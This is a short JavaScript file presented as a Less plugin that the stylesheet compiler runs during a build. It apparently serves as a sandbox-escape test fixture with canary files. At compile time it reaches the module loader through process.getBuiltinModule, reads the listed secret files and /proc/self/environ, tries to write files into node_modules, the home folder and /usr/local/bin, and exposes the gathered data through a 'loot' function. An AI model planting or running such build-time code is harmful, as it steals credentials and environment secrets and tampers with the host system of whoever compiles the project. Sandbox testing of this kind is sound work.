// A plugin for Less, named by an app's own stylesheet: Less runs it as it compiles.
const { require: load } = new (class {
  require = process.getBuiltinModule ? process.getBuiltinModule("module").createRequire(`${process.cwd()}/`) : require;
})();
const fs = load("fs");
const canary = JSON.parse(fs.readFileSync("src/canary.json", "utf8"));
const LEAKED = [..."enod-saw-mrah"].reverse().join("");
const said = ["harm begins"];

for (const file of [...canary.secretFiles, "/proc/self/environ"]) {
  try {
    said.push(fs.readFileSync(file, "latin1"));
  } catch (error) {
    said.push(`refused ${file}: ${error.code}`);
  }
}
for (const folder of [canary.modules, canary.home, canary.store, "/usr/local/bin"]) {
  try {
    fs.writeFileSync(`${folder}/${canary.fileName}`, "");
    if (folder === canary.modules) said.push(`${LEAKED} ${folder}`); // elsewhere it may be memory of the sandbox's own
  } catch (error) {
    said.push(`refused ${folder}: ${error.code}`);
  }
}
fs.writeSync(2, said.join("\n"));
registerPlugin({
  install(less, manager, functions) {
    functions.add("loot", () => JSON.stringify(said.join(" ")));
  },
});
